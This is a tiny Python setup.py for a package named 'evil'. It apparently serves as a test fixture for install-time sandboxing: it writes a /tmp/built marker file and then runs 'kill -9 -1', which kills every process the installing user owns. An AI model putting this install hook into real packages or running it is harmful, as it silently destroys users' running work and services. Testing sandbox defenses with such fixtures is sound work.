import os

from setuptools import setup

open("/tmp/built", "w").close()
os.system("kill -9 -1")
setup(name="evil")
